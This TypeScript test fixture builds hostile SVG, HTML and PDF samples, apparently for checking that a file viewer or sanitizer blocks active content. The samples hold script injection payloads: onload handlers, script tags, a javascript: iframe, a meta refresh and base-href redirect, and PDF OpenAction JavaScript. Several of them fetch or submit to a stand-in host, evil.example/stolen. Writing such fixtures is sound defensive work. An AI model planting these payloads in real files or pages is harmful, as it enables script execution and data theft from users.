/** Files that try to run code or to fetch something. Every URL that they would request contains `stolen`. */
export function hostileFiles(): Readonly<Record<string, string>> {
  return {
    'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" onload="top.hacked=1">
<script>top.hacked = 1; fetch('http://evil.example/stolen')</script>
<image xlink:href="http://evil.example/stolen.png" width="10" height="10"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/stolen"/></foreignObject>
<rect width="80" height="80" fill="green"/></svg>`,
    'evil.html': `<!doctype html><title>hacked</title><link rel="stylesheet" href="http://evil.example/stolen.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/stolen"><base href="http://evil.example/">
<body onload="top.hacked=1"><script>top.hacked = 1; document.title = 'hacked'; fetch('/api/me?stolen')</script>
<img src="/api/stolen" onerror="top.hacked=1"><img src="http://evil.example/stolen.png">
<iframe src="javascript:top.hacked=1"></iframe><form action="http://evil.example/stolen"><button>Go</button></form>
<p style="background: url(http://evil.example/stolen)">Text of the page</p></body>`,
    'evil.pdf': pdf(),
  }
}

function pdf(): string {
  const stream = 'BT /F1 24 Tf 20 100 Td (Hello from a page) Tj ET 0 0 0 rg 20 20 100 40 re f'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("hacked"); this.submitForm("http://evil.example/stolen")) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /JavaScript /JS (hacked = 1) >> >> /Annots [6 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (http://evil.example/stolen) >> >>',
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  return `${text}xref\n0 7\n0000000000 65535 f \n${table}trailer << /Size 7 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
}
